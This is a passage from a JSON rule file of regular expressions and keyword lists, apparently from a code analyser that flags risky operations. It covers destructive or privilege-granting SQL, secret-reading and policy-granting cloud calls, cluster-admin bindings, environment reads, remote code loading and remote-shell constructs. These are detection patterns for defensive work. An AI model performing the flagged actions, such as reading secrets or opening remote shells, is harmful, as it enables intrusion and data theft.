-b|for\\\\b|function\\\\b)\\\\w+))\\\\s+(?=[\\"\\\\w(])(?!of\\\\b|=)","$1, "],[",\\\\s*(?:nil|t)\\\\b",""]]},"haskell":{"comment":"\\\\{-[\\\\s\\\\S]*?-\\\\}|--[^\\\\n]*","texts":"\\"((?:[^\
-\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'(?:[^'\\\\\\\\]|\\\\\\\\.)'","rewrites":[["^import\\\\b[^\\\\n]*",""],["\\\\b(?:[A-Z]\\\\w*\\\\.)+(?=[a-z])",""],["<-","="],["<>|\\\\+\\\\+","+"],["<\\\\/>",\
-"/"],["\\\\b(\\\\w+)\\\\s*=\\\\s*getHomeDirectory\\\\b","$1 = \\"~\\""],["\\\\blet\\\\s+(?=\\\\w+\\\\s*=)",""],["\\\\b(?:mapM_|traverse_|forConcurrently_)\\\\s+(\\\\w+)\\\\s+(\\\\[[^\\\\[\\\\]]*\
-\\\\]|\\\\w+)","map($1, $2)"],["\\\\bforM_\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)\\\\s*\\\\$?\\\\s*\\\\\\\\(\\\\w+)\\\\s*->","for ($2 of $1); "],["\\\\b(callCommand|system|shell|spawnCommand|rem\
-ove\\\\w+|readFile|words)\\\\s+(?:\\\\$\\\\s*)?(?=[\\"(\\\\w])(\\"\\\\d+\\"(?:\\\\s*[+\\\\/]\\\\s*(?:\\"\\\\d+\\"|\\\\w+))*|\\\\w+(?:\\\\s*[+\\\\/]\\\\s*(?:\\"\\\\d+\\"|\\\\w+))*|\\\\([^()]*\\\\))","$1($2)\
-"],["\\\\b(callProcess|readProcess|rawSystem)\\\\s+(\\"\\\\d+\\")\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\])","spawn($2, $3)"],["\\\\b(writeFile|appendFile)\\\\s+(\\"\\\\d+\\"|\\\\w+|\\\\([^()]*\\\\))\\\\s\
-+(\\"\\\\d+\\"|\\\\w+)","$1($2, $3)"]]},"octave":{"comment":"[%#][^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|(?<![\\\\w)\\\\]}])'((?:[^'\\\\n]|'')*)'","rewrites":[[\
-"\\\\brmdir\\\\s*\\\\(([^(),]*),\\\\s*\\"\\\\d+\\"\\\\s*\\\\)","rm_rf($1)"],["\\\\b(?:delete|unlink)\\\\s*\\\\(","remove("],["\\\\b(?:unix|dos|shell_cmd)\\\\s*\\\\(","system("],["\\\\bfullfi\
-le\\\\s*\\\\(","join_path("],["\\\\{([^{};]*\\"[^{};]*)\\\\}","[$1]"],["\\\\[\\\\s*(\\"\\\\d+\\")\\\\s+(?=[\\"\\\\w])","[$1, "],["\\\\bfor\\\\s+(\\\\w+)\\\\s*=\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)","f\
-or ($1 of $2);"],["(\\\\b[a-z]\\\\w*)\\\\{[\\\\w:]+\\\\}","$1"]]}},"awk":{"comment":["#"],"sigils":"","interpolation":"none","triple":false,"single_escapes":true,"quoting\
-":"none","patterns":true,"lines":"statements"},"operators":{"||":1,"??":1,"or":1,"&&":2,"and":2,"==":3,"!=":3,"===":3,"!==":3,"<":3,">":3,"<=":3,">=":3,"=~":3,"\
-in":3,"is":3,"..":3,"|":4,"^":5,"&":6,"<<":7,">>":7,"+":8,"-":8,".":8,"*":9,"/":9,"%":9,"//":9,"x":9,"**":10},"sql":[{"words":[["TRUNCATE"],["TABLE"]],"does":"t\
-runcate","name":2},{"words":[["TRUNCATE"]],"does":"truncate","name":1},{"words":[["CREATE"],["USER","ROLE","LOGIN"]],"does":"create-user","name":2},{"words":[["\
-ALTER"],["USER","ROLE","LOGIN"]],"does":"alter-user","name":2},{"words":[["ALTER"],["SYSTEM"]],"does":"set-global","name":3},{"words":[["SET"],["GLOBAL","PERSIS\
-T"]],"does":"set-global","name":2},{"words":[["PRAGMA"],["WRITABLE_SCHEMA"]],"does":"set-global","name":1},{"words":[["GRANT"]],"does":"grant","all":true},{"wor\
-ds":[["REVOKE"]],"does":"revoke","all":true},{"words":[["SHUTDOWN"]],"does":"shutdown"},{"words":[["ATTACH"],["DATABASE"]],"does":"attach","name":2},{"words":[[\
-"ATTACH"]],"does":"attach","name":1},{"words":[["KILL"]],"does":"kill","name":1},{"words":[["FLUSHALL","FLUSHDB"]],"does":"flush","name":0},{"words":[["CREATE"]\
-,["DATABASE","SCHEMA"]],"does":"create","name":2},{"words":[["PURGE"]],"does":"purge","name":1},{"words":[["CONFIG"],["SET"],["DIR","DBFILENAME"]],"does":"set-g\
-lobal","name":2},{"words":[["RESET"],["MASTER","REPLICA","SLAVE"]],"does":"purge","name":1}],"signs":{"name-tests":["[=!<>]=|[<>]|\\\\b(?:in|match)\\\\b|=~|\\\\b(?:en\
-dswith|startswith|endsWith|startsWith|includes|test|match|search|end_with\\\\?|start_with\\\\?)"],"kind-tests":["is_?(?:dir|file|link|symlink)|isDirectory|isFile|is\
-SymbolicLink|exists|(?:directory|file|exist)\\\\?|-[dfel]\\\\b","i"],"age-tests":["[acm]time|birthtime|\\\\bst_size|getsize|\\\\.size\\\\b|file(?:size|mtime)|\\\\s-[MAC]\\\\s\
-"],"secret-methods":["^(?:get|batch_?get)_?secret_?values?$|^(?:access_?secret_?version|get_?secret|read_?secret(?:_?version)?|get_?(?:frozen_?)?credentials)$|^\
-(?:list|read)_?(?:namespaced_?)?secret(?:_?for_?all_?namespaces)?$","i"],"granting-methods":["^(?:attach|put)_?(?:user|role|group)_?policy(?:_?command)?$|^autho\
-rize_?security_?group_?ingress(?:_?command)?$|^(?:create_?access_?key|add_?user_?to_?group|put_?bucket_?(?:policy|acl))(?:_?command)?$","i"],"emptying-methods":\
-["^(?:empty|obliterate|clear|drop|flush_?(?:all|db|database))(?:_?(?:async|sync))?$|^(?:refresh|drop|reset|clear|wipe|truncate|purge)_?(?:all|db|database|schema\
-|tables?|collections?|storage)(?:_?(?:async|sync))?$","i"],"own-addresses":["\\\\blocalhost\\\\b|\\\\b127\\\\.\\\\d|\\\\b0\\\\.0\\\\.0\\\\.0\\\\b|\\\\[?::1\\\\b|^(?:unix|file|sqlite):|\
-^\\\\.{0,2}/"],"service-options":["api_?key|token|secret|credential|password|authorization|access_?key|^(?:basic_?)?auth$|^endpoint$|^(?:base|prefix|org|server|ap\
-i)_?ur[li]$|^(?:hosts?|servers?|brokers|bootstrap_?servers)$|(?:project|account|subscription|site|space|app|tenant)_?id$","i"],"service-variables":["TOKEN|KEY|S\
-ECRET|PASS|PAT$|AUTH|CRED|ACCOUNT|ENDPOINT|DSN|(?:UR[LI]|HOST|_ID|SID|DOMAIN|SERVER)$"],"service-addresses":["^(?:https?|wss?|grpcs?|nats|amqps?|ldaps?)://[^/]|\
-^(?:[\\\\w-]+\\\\.)+(?:com|net|org|io|dev|local|internal|cloud|corp)(?::\\\\d+)?$|^\\\\d+\\\\.\\\\d+\\\\.\\\\d+\\\\.\\\\d+(?::\\\\d+)?$"],"own-data-modules":["^(?:\\\\.{1,2}|@|~)/(?:[\\\
-\\w./-]*[/.-])?(?:db|database|data-?source|orm|prisma|knex|sequelize|mongoose|models?)(?:[/.-]|$)","i"],"client-makers":["^[A-Z]|^(?:create|connect|init|make|ope\
-n|new|from|extend|with|get_?client)|(?:client|driver|session|pool|engine|connection|sdk|api)$","i"],"negative-tests":["\\\\bnot\\\\b|!=|!~|!\\\\s*\\\\(?[\\\\w.]+|\\\\bunles\
-s\\\\b|\\\\breject\\\\b"],"skips":["\\\\b(?:continue|next|return)\\\\b"],"stdin-names":["^(?:0|-|/dev/(?:stdin|fd/0)|/proc/self/fd/0|php://stdin)$"],"mock-options":["^(?:\
-spec|spec_set|autospec|create|name|unsafe|new_callable|target|attribute|new)$"],"writing-flags":["^File\\\\.(?:Constants\\\\.)?(?:WRONLY|RDWR|CREAT|TRUNC|APPEND)$|^\
-(?:os|fs\\\\.constants|constants)?\\\\.?O_(?:WRONLY|RDWR|CREAT|TRUNC|APPEND)$"],"sending-methods":["gist|upload|put_?object|comment|send|post","i"],"deleting-reques\
-ts":["^DELETE(?: /|$)|\\\\bmutation\\\\b[\\\\s\\\\S]*(?:\\\\bdelete|Delete)\\\\w*\\\\s*\\\\("],"place-options":["ur[li]|host|server|endpoint|address|database|^db|file|storage|^\
-path$|dsn","i"],"passing-data":["^memory://|:memory:|^(?:sqlite\\\\w*(?:\\\\+\\\\w+)?:/{2,3})?/tmp/|^sqlite://$|^mock$"],"passing-databases":["^(?::memory:$|/(?:tmp|v\
-ar/tmp|dev/shm)/(?!.*\\\\.\\\\.))|^(?:[\\\\w.-]+/)*(?:test|tests|tmp|scratch)(?:[_-][\\\\w-]*)?\\\\.(?:db|sqlite3?)$"],"harmless-names":["^(?:None|null|undefined|true|fal\
-se|True|False|(?:\\\\w+\\\\.)*\\\\w*(?:Error|Exception|DEFAULT|Exit|Interrupt))$"],"file-calls":["^(?:os\\\\.(?:remove|unlink|rmdir|removedirs|rename|replace|truncate)|\
-shutil\\\\.\\\\w+|pathlib\\\\.\\\\w+)$"],"imitation":["^[^#\\\\n]*(?:\\\\b(?:import|from)\\\\s+|require\\\\(\\\\s*)['\\"]?(?:fakeredis|mongomock|pymongo_inmemory|ioredis-mock|redi\
-s-mock)\\\\b|^[^#\\\\n]*(?:\\\\b(?:import|from)\\\\s+|require\\\\(\\\\s*)['\\"]?(?:mongodb-memory-server|pg-mem|testcontainers)\\\\b|^from sqlalchemy import .*\\\\bcreate_mock_e\
-ngine\\\\b|\\\\b(?:miniredis\\\\.(?:Run|RunT|NewMiniRedis)|sqlmock\\\\.New|pgxmock\\\\.New\\\\w*|redismock\\\\.New\\\\w*)\\\\(|^(?![\\\\s\\\\S]*\\\\b(?:DBI|dbi):(?!Mock\\\\b))[\\\\s\\\\S]*\\\\\
-b(?:DBI|dbi):Mock:","m"],"links-repositories":["worktree|symlink|gitdir|git-dir|\\\\.git['\\"]"],"own-folder":["getcwd|\\\\bcwd\\\\(|__dirname|__file__|abspath|resolve\
-|pwd"],"in-memory":["['\\"](?:sqlite3?:(?:\\\\/\\\\/)?|(?:dbi|DBI):SQLite:(?:dbname=)?)\\\\/(?:tmp|var\\\\/tmp|dev\\\\/shm)\\\\/(?![^'\\"]*\\\\.\\\\.)|['\\"](?:Data ?Source=)?[\\\\w\
-:=/+]*:memory:['\\";]|['\\"]jdbc:(?:h2|hsqldb|derby|sqlite)::?mem|\\\\bSQLite\\\\.DB\\\\(\\\\s*\\\\)|\\\\bSequel\\\\.sqlite\\\\b(?!\\\\s*\\\\(?\\\\s*['\\"])|['\\"]sqlite:\\\\/\\\\/['\\"]"],"d\
-atabase":["\\\\b(?:mongodb|postgres|mysql|mariadb|redis|rediss|mssql|oracle)\\\\w*(?:\\\\+\\\\w+)?:\\\\/\\\\/|['\\"](?!django)[\\\\w./-]+\\\\.(?:db|sqlite3?)['\\"]","i"],"driver"\
-:["\\\\b(?:psycopg\\\\d?|asyncpg|aiopg|pymysql|MySQLdb|mysql2?|mariadb|cx_Oracle|oracledb|pyodbc|pymssql|pymongo|motor)\\\\b|\\\\b(?:mongoose|mongodb|ioredis|snowflake|\
-clickhouse\\\\w*|DATABASE_URL|DB_URL)\\\\b|['\\"]pg['\\"]"],"own-connection":["(?:^|[\\\\n;])\\\\s*(?:from|import)\\\\s+(?!(?:sqlalchemy|sqlmodel|sqlite3|aiosqlite|tempfile\
-|os|sys|pathlib|shutil|json|re|time|datetime|contextlib|asyncio|typing|uuid|random|pytest|unittest|pandas|dataclasses|textwrap|subprocess|logging|decimal|enum|c\
-ollections|itertools|functools|alembic)\\\\b)\\\\w|['\\"](?:\\\\.{1,2}|@|~)\\\\/|\\\\bargv\\\\b|\\\\bsymlink|\\\\(\\\\s*['\\"][\\\\w./-]+\\\\.(?:db|sqlite3?)['\\"]|(?:sqlite3|apsw)\\\\.Co\
-nnection|SqliteDatabase"],"emulated":["^(?![\\\\s\\\\S]*https?:\\\\/\\\\/(?!localhost|127\\\\.))[\\\\s\\\\S]*(?:UseDevelopmentStorage=true|\\\\bapi_base\\\\b[^\\\\n]*['\\"]http:\\\\/\\\
-\\/(?:localhost|127\\\\.))"],"data-library":["(?:import|from|require\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:mikro-orm|typeorm|prisma|sequelize|drizzle|kysely|objection|books\
-helf|peewee)|(?:import|from|require\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:tortoise|pony|sqlalchemy|sqlmodel|databases|neo4j|cassandra)|(?:import|from|require\\\\(?|use)\\\\b\
-[^\\\\n]{0,60}\\\\b(?:rethinkdb|surrealdb|influx|libsql|neon|planetscale|duckdb|rq|bull)|\\\\b\\\\w*(?:DATABASE|DB|MONGO|REDIS|POSTGRES|PG|MYSQL)_?(?:URL|URI|DSN)\\\\b","\
-i"],"database-address":["^(?![\\\\s\\\\S]*['\\"]sqlite:)[\\\\s\\\\S]*(?:\\\\w:\\\\/\\\\/|D(?:ATA)?B(?:ASE)?_UR[IL]\\\\b)"],"attaches":["\\\\bATTACH\\\\b","i"],"key-store":["redis|va\
-lkey|keydb|memcache","i"],"unconditional":["^(?![\\\\s\\\\S]*(?:\\\\b(?:if|unless|next|select|reject|filter|break|limit|take|first|case)\\\\b|\\\\?))[\\\\s\\\\S]*\\\\w"],"http-\
-client":["^(?!(?:(?![\\\\s\\\\S]*(?:new [\\\\w\\\\\\\\]*Client\\\\b[\\\\s\\\\S]*){2})[\\\\s\\\\S]*\\\\bMock(?:Handler|HttpClient|Response)\\\\b)|[\\\\s\\\\S]*\\\\bHttp::fake\\\\b)[\\\\s\\\\S]*\\\\b(\
-?:GuzzleHttp|HttpClient)\\\\b"],"stubbed-services":["^(?![\\\\s\\\\S]*(?:Client|Resource)\\\\.new\\\\b(?!\\\\([^)]*\\\\bstub_responses: true\\\\b))[\\\\s\\\\S]*\\\\bstub_responses: t\
-rue\\\\b"],"stubbed-requests":["^(?![\\\\s\\\\S]*(?:axios|(?:node|cross)-fetch|superagent|needle|\\\\bky\\\\b|request['\\"]|phin|bent|wretch|['\\"](?:got|https?|http2|net|n\
-ode:\\\\w+|child_process)['\\"]|enableNetConnect|\\\\bif\\\\b))[\\\\s\\\\S]*\\\\bnew MockAgent\\\\(\\\\)[\\\\s\\\\S]*\\\\bdisableNetConnect\\\\(\\\\)[\\\\s\\\\S]*\\\\bsetGlobalDispatcher\\\\(|^(?\
-![\\\\s\\\\S]*(?:allow_net_connect|disable!|\\\\bif\\\\b|\\\\bunless\\\\b))(?=[\\\\s\\\\S]*?\\\\brequire [\\"']webmock)(?=[\\\\s\\\\S]*?(?:webmock/(?:rspec|minitest)[\\"']|WebMock\\\\.en\
-able!))[\\\\s\\\\S]*?\\\\bstub_request\\\\b"],"dry-files":["^(?![\\\\s\\\\S]*\\\\b(?:FileUtils(?:\\\\.|::(?![DN])\\\\w)|include FileUtils(?!::)|(?:class|module)\\\\s|(?:File(?!\\\\.j\
-oin)|Dir|Pathname)\\\\b))[\\\\s\\\\S]*\\\\binclude FileUtils::(?:DryRun|NoWrite)\\\\b"],"lists-processes":["^(?![\\\\s\\\\S]*\\\\b(?:if|select|grep|when|unless|filter)\\\\b[^\\\\n]\
-*\\\\b(?:comm|cmdline|exe|status|environ|cwd)\\\\b)[\\\\s\\\\S]*[\\"']/proc(?:[\\"']|/(?:\\\\*|\\\\[|\\\\\\\\d))"],"prints-names":["^(?![\\\\s\\\\S]*(?:\\\\b(?:requests|urllib|https?|f\
-etch|sockets?|smtplib|subprocess|child_process|popen|system|spawn\\\\w*|exec\\\\w*|eval|compile|__import__|getattr|setattr|globals|vars|write\\\\w*|append\\\\w*|dump\\\\w\
-*|pickle|logg\\\\w+|logging|stdout|stderr|raise|throw|assert|environ|send\\\\w*|post|upload|copy\\\\w*|rename|move|sys|pprint|warn|puts|echo|def|class|lambda|function\
-|function\\\\*|while|reverse\\\\w*)\\\\b|import\\\\(|process\\\\.(?!exit)|console\\\\.(?!log\\\\()|open\\\\([^()\\\\n]*,|\\\\b(?!(?:print|open|split|strip|partition|startswith|sort\
-ed|list|len|set|join|keys|dotenv_values|readlines|read|splitlines|match|search|group|if|in|not|and|or|with)\\\\b)\\\\w+ ?\\\\(|[\\\\w)}\\\\]]\\\\[(?![01]\\\\])|\\\\}\\\\[|\\\\bopen\
-\\\\((?!['\\\\\\"][\\\\w./]+['\\\\\\"]\\\\))|:=|\\\\bas (?!f\\\\b)|\\\\bimport (?!re\\\\b|os\\\\b|dotenv)|\\\\bfrom (?!dotenv)|\\\\bfor\\\\b(?! l(?:ine)? in (?:open\\\\(['\\\\\\"][\\\\w./]+['\\\\\\"\
-]\\\\)(?:\\\\.readlines\\\\(\\\\)|\\\\.read\\\\(\\\\)\\\\.splitlines\\\\(\\\\))?|f)(?::| if|[)\\\\]]))|\\\\b(?!(?:maxsplit|sep)\\\\b)(?!(?:keys|names) ?= ?(?:sorted\\\\(|set\\\\()?[\\\\[{(]?l(\
-?:ine)?\\\\.(?:strip\\\\(\\\\)\\\\.)?(?:split\\\\(['\\\\\\"]=['\\\\\\"](?:, ?(?:maxsplit=)?1)?\\\\)|partition\\\\(['\\\\\\"]=['\\\\\\"]\\\\))\\\\[0\\\\](?:\\\\.strip\\\\(\\\\))? for l(?:ine)? in (?:\
-open\\\\(['\\\\\\"][\\\\w./]+['\\\\\\"]\\\\)(?:\\\\.readlines\\\\(\\\\)|\\\\.read\\\\(\\\\)\\\\.splitlines\\\\(\\\\))?|f)(?: if [^\\\\n;]*)?\\\\n)\\\\w+ ?=(?!=)|\\\\bre\\\\.|\\\\bprint\\\\b(?!\\\\((?:(?:['\\\
-\\\\"][^'\\\\\\"{}%\\\\n]*['\\\\\\"]\\\\.join\\\\(|sorted\\\\(|len\\\\(|\\\\*)*(?:keys|names)\\\\)*(?:, ?sep=['\\\\\\"][^'\\\\\\"{}%\\\\n]*['\\\\\\"])?|l(?:ine)?\\\\.(?:strip\\\\(\\\\)\\\\.)?(?:split\\\\\
-(['\\\\\\"]=['\\\\\\"](?:, ?(?:maxsplit=)?1)?\\\\)|partition\\\\(['\\\\\\"]=['\\\\\\"]\\\\))\\\\[0\\\\](?:\\\\.strip\\\\(\\\\))?|\\\\[l(?:ine)?\\\\.(?:strip\\\\(\\\\)\\\\.)?(?:split\\\\(['\\\\\\"]=['\\\\\\"\
-](?:, ?(?:maxsplit=)?1)?\\\\)|partition\\\\(['\\\\\\"]=['\\\\\\"]\\\\))\\\\[0\\\\](?:\\\\.strip\\\\(\\\\))? for l(?:ine)? in (?:open\\\\(['\\\\\\"][\\\\w./]+['\\\\\\"]\\\\)(?:\\\\.readlines\\\\(\\\\)|\
-\\\\.read\\\\(\\\\)\\\\.splitlines\\\\(\\\\))?|f)(?: if [^()\\\\n]*)?\\\\]|(?:sorted|list|len|set)\\\\((?:l(?:ine)?\\\\.(?:strip\\\\(\\\\)\\\\.)?(?:split\\\\(['\\\\\\"]=['\\\\\\"](?:, ?(?:maxspl\
-it=)?1)?\\\\)|partition\\\\(['\\\\\\"]=['\\\\\\"]\\\\))\\\\[0\\\\](?:\\\\.strip\\\\(\\\\))? for l(?:ine)? in (?:open\\\\(['\\\\\\"][\\\\w./]+['\\\\\\"]\\\\)(?:\\\\.readlines\\\\(\\\\)|\\\\.read\\\\(\\\\)\\\\.\
-splitlines\\\\(\\\\))?|f)(?: if [^()\\\\n]*)?|dotenv_values\\\\(['\\\\\\"][\\\\w./]*['\\\\\\"]\\\\)(?:\\\\.keys\\\\(\\\\))?)\\\\)|\\\\*?(?:sorted|list)\\\\(dotenv_values\\\\(['\\\\\\"][\\\\w./]*['\\\
-\\\\"]\\\\)(?:\\\\.keys\\\\(\\\\))?\\\\), ?sep=['\\\\\\"][^'\\\\\\"{}%\\\\n]*['\\\\\\"]|['\\\\\\"][^'\\\\\\"{}%\\\\n]*['\\\\\\"]\\\\.join\\\\((?:sorted\\\\()?(?:dotenv_values\\\\(['\\\\\\"][\\\\w./]*['\\\\\\"]\\\
-\\)(?:\\\\.keys\\\\(\\\\))?|l(?:ine)?\\\\.(?:strip\\\\(\\\\)\\\\.)?(?:split\\\\(['\\\\\\"]=['\\\\\\"](?:, ?(?:maxsplit=)?1)?\\\\)|partition\\\\(['\\\\\\"]=['\\\\\\"]\\\\))\\\\[0\\\\](?:\\\\.strip\\\\(\\\\)\
-)? for l(?:ine)? in (?:open\\\\(['\\\\\\"][\\\\w./]+['\\\\\\"]\\\\)(?:\\\\.readlines\\\\(\\\\)|\\\\.read\\\\(\\\\)\\\\.splitlines\\\\(\\\\))?|f)(?: if [^()\\\\n]*)?)\\\\)?\\\\)|['\\\\\\"][^'\\\\\\"{}%\\\\\
-n]*['\\\\\\"])\\\\)\\\\s*(?:$|[\\\\n;]))))[\\\\s\\\\S]*\\\\bprint\\\\(|^(?![\\\\s\\\\S]*(?:\\\\b(?:requests|urllib|https?|fetch|sockets?|smtplib|subprocess|child_process|popen|system|\
-spawn\\\\w*|exec\\\\w*|eval|compile|__import__|getattr|setattr|globals|vars|write\\\\w*|append\\\\w*|dump\\\\w*|pickle|logg\\\\w+|logging|stdout|stderr|raise|throw|assert|e\
-nviron|send\\\\w*|post|upload|copy\\\\w*|rename|move|sys|pprint|warn|puts|echo|def|class|lambda|function|function\\\\*|while|reverse\\\\w*)\\\\b|import\\\\(|process\\\\.(?!ex\
-it)|console\\\\.(?!log\\\\()|open\\\\([^()\\\\n]*,|\\\\b(?!(?:print|open|split|strip|partition|startswith|sorted|list|len|set|join|keys|dotenv_values|readlines|read|split\
-lines|match|search|group|if|in|not|and|or|with)\\\\b)\\\\w+ ?\\\\(|[\\\\w)}\\\\]]\\\\[(?![01]\\\\])|\\\\}\\\\[|\\\\bopen\\\\((?!['\\\\\\"][\\\\w./]+['\\\\\\"]\\\\))|:=|\\\\bas (?!f\\\\b)|\\\\bimport\
- (?!re\\\\b|os\\\\b|dotenv)|\\\\bfrom (?!dotenv)|\\\\bfor\\\\b(?! l(?:ine)? in (?:open\\\\(['\\\\\\"][\\\\w./]+['\\\\\\"]\\\\)(?:\\\\.readlines\\\\(\\\\)|\\\\.read\\\\(\\\\)\\\\.splitlines\\\\(\\\\))?\
-|f)(?::| if|[)\\\\]]))|\\\\b(?!m ?=)\\\\w+ ?=(?!=)|\\\\bm ?=(?! ?re\\\\.)|\\\\bprint\\\\b(?!\\\\(m(?:\\\\.group\\\\(1\\\\)|\\\\[1\\\\])\\\\)\\\\s*(?:$|[\\\\n;]))|\\\\bre\\\\.[\\\\s\\\\S]*\\\\bre\\\\.))(?=\
-[\\\\s\\\\S]*re\\\\.(?:match|search)\\\\(r?['\\\\\\"](?:\\\\^|\\\\\\\\s\\\\*|\\\\(\\\\?:export\\\\\\\\s\\\\+\\\\)\\\\?)*\\\\((?:\\\\[[\\\\w-]+\\\\]|\\\\\\\\w)[+*]?(?:\\\\[[\\\\w-]+\\\\][+*]?)?\\\\)(?:\\\\\\\\s\\\\*)?=['\
-\\\\\\"], l(?:ine)?\\\\))[\\\\s\\\\S]*\\\\bprint\\\\(|^(?![\\\\s\\\\S]*(?:\\\\b(?:requests|urllib|https?|fetch|sockets?|smtplib|subprocess|child_process|popen|system|spawn\\\\w*|exe\
-c\\\\w*|eval|compile|__import__|getattr|setattr|globals|vars|write\\\\w*|append\\\\w*|dump\\\\w*|pickle|logg\\\\w+|logging|stdout|stderr|raise|throw|assert|environ|send\\\\\
-w*|post|upload|copy\\\\w*|rename|move|sys|pprint|warn|puts|echo|def|class|lambda|function|function\\\\*|while|reverse\\\\w*)\\\\b|import\\\\(|process\\\\.(?!exit)|console\\\\\
-.(?!log\\\\()|open\\\\([^()\\\\n]*,|\\\\b(?!(?:require|readFileSync|parse|config|keys|log|sort|join|stringify)\\\\b)\\\\w+ ?\\\\(|\\\\]\\\\s?\\\\(|\\\\brequire\\\\((?!['\\\\\\"][\\\\w:/-]+[\
-'\\\\\\"]\\\\))|\\\\bparse\\\\((?<!dotenv['\\\\\\"]\\\\)\\\\.parse\\\\()(?<!dotenv\\\\.parse\\\\()|\\\\bnew\\\\b|\\\\bdotenv ?=(?! ?require\\\\(['\\\\\\"]dotenv['\\\\\\"]\\\\))|console\\\\.log(?!\\\\((?\
-:JSON\\\\.stringify\\\\()?Object\\\\.keys\\\\((?:require\\\\(['\\\\\\"]dotenv['\\\\\\"]\\\\)|dotenv)\\\\.(?:parse|config)\\\\([\\\\w.'\\\\\\"(),/:{} -]*\\\\)(?:\\\\.(?:sort|join|length)\\\\b(?:\
-\\\\(['\\\\\\"\\\\\\\\n, ]*\\\\))?)*\\\\)?\\\\)\\\\s*(?:$|[\\\\n;]))))[\\\\s\\\\S]*console\\\\.log\\\\("],"leaves-order":["\\\\\\\\\\\\r?\\\\n|\\\\bgoto\\\\b"],"variable-file":["(?:^|/)\\\\.env(?:\\\\.[\\\
-\\w-]+)*$"],"network":["\\\\b(?:\\\\w*Socket|socket|net\\\\.(?:Listen|Dial|Conn)|http\\\\.(?:Request|HandleFunc|ListenAndServe)|Tcp(?:Listener|Stream|Client)|gen_tcp|Htt\
-pListener|HttpServer)\\\\b"],"serves":["\\\\b(?:import|from)\\\\s+(?:flask|bottle|fastapi|starlette|quart|sanic|aiohttp|litestar|robyn)\\\\b"],"respawns":["^(?![\\\\s\\\\S]\
-*(?:\\\\b(?:if|unless|case|switch|when|argv|ARGV|environ|env|ENV|sleep|reload|watch\\\\w*)\\\\b|\\\\?|&&))[\\\\s\\\\S]*\\\\b(?:spawn|Popen|popen|fork|exec|execFile|proc_open|\
-Start|start)\\\\w*[ (]{1,3}[^;\\\\n]{0,100}\\\\b(?:__filename|__file__|__FILE__|PROGRAM_NAME)\\\\b|^(?![\\\\s\\\\S]*(?:\\\\b(?:if|unless|case|switch|argv)\\\\b|\\\\?|&&))[\\\\s\\\\S]\
-*(?:\\\\bfunction\\\\s{1,3}(\\\\w{1,40})\\\\s?\\\\([^)\\\\n]{0,99}\\\\)|\\\\b(?:const|let|var)\\\\s(\\\\w{1,40})\\\\s?=\\\\s?\\\\([^)\\\\n]{0,99}\\\\)\\\\s?=>)\\\\s?\\\\{[^}]{0,200}\\\\b(?:spawn|exe\
-cFile|exec|fork)\\\\w{0,9}\\\\([^;]{0,100}(?:\\\\+ ?\\\\1\\\\2\\\\b(?! ?\\\\()|\\\\$\\\\{\\\\1\\\\2\\\\}|\\\\b\\\\1\\\\2\\\\.toString\\\\()"],"remote-shell":["^(?=[\\\\s\\\\S]*?(?:IO::Socket|\\\\bsock\
-et\\\\s?\\\\())[\\\\s\\\\S]*\\\\$(\\\\w{1,40})\\\\s*=\\\\s*<\\\\$\\\\w{1,40}>[\\\\s\\\\S]{0,400}(?:\\\\b(?:system|exec|qx|readpipe|open)\\\\b|\`)[^;\\\\n]{0,40}\\\\$\\\\1\\\\b|^(?=[\\\\s\\\\S]*?(?:crea\
-teServer|net\\\\.connect|createConnection|net\\\\.Socket|WebSocket))(?=[\\\\s\\\\S]*?\\\\.pipe\\\\(\\\\s?\\\\w{1,40}\\\\.stdin)[\\\\s\\\\S]*?\\\\b(?:spawn|execFile)\\\\s?\\\\(\\\\s?['\\\\\\"\`](\
-?:/usr)?(?:/bin/)?(?:ba|z|k|da)?sh['\\\\\\"\`]|\\\\.(?:get|post|put|patch|all|use)\\\\(\\\\s?['\\\\\\"\`][^'\\\\\\"\`\\\\n]{0,80}['\\\\\\"\`],\\\\s?(?:async\\\\s)?\\\\(?(?<request>\\\\w{1,20})\
-\\\\s?,\\\\s?\\\\w{1,20}\\\\)?\\\\s?=>[\\\\s\\\\S]{0,400}?\\\\b(?:exec|execSync|spawn|spawnSync|eval)\\\\(\\\\s?(?:String\\\\()?\\\\k<request>\\\\.(?:body|query|params)\\\\b|^(?=[\\\\s\\\\S]*?\
-\\\\bnet\\\\.(?:Listen|Dial)\\\\()[\\\\s\\\\S]*\\\\bexec\\\\.Command\\\\(\\\\\\"(?:/usr)?(?:/bin/)?(?:ba|z|k|da)?sh\\\\\\"(?:, ?\\\\\\"-i\\\\\\")?\\\\)[\\\\s\\\\S]{0,200}\\\\.Stdin\\\\b[^\\\\n=]{0,60}\
-=\\\\s?\\\\w"],"remote-code":["\\\\b(?:source|source_url)\\\\(\\\\s?['\\\\\\"]https?://|^(?=[\\\\s\\\\S]*?\\\\bfetch\\\\()(?=[\\\\s\\\\S]*?\\\\bimport\\\\(\\\\s?(?<module>['\\\\\\"][^'\\\\\\"\\\\n]{1\
-,200}['\\\\\\"]))[\\\\s\\\\S]*\\\\b(?:Bun\\\\.write|writeFile(?:Sync)?|writeTextFile(?:Sync)?)\\\\(\\\\s?\\\\k<module>"],"cluster-admin":["['\\"]cluster-admin['\\"]"],"role-method\
-s":["^(?:create|patch|replace)_?(?:cluster_?|namespaced_?)role_?binding$","i"],"sets-names":["\\\\b(?:globals|vars|locals|setattr|exec|eval|extract|reload)\\\\s*\\\\(\
-|\\\\bimport\\\\s+\\\\*"],"reads-environment":["\\\\bprocess\\\\.env\\\\b|\\\\bos\\\\.environ|\\\\bgetenv\\\\b"],"reaches-around":["\\\\b(?:patch(?:\\\\.\\\\w+)?|setattr)\\\\([^\\\\n]*\\\\)\\\\s\
-+if\\\\b|\\\\bnullcontext\\\\b|__wrapped__|\\\\[['\\"]\\\\w+['\\"]\\\\]\\\\(|mockImplementation\\\\(\\\\s*\\\\)|\\\\bPause\\\\b|\\\\b(?:globals|vars|locals|exec|eval|reload|__dict__|__buil\
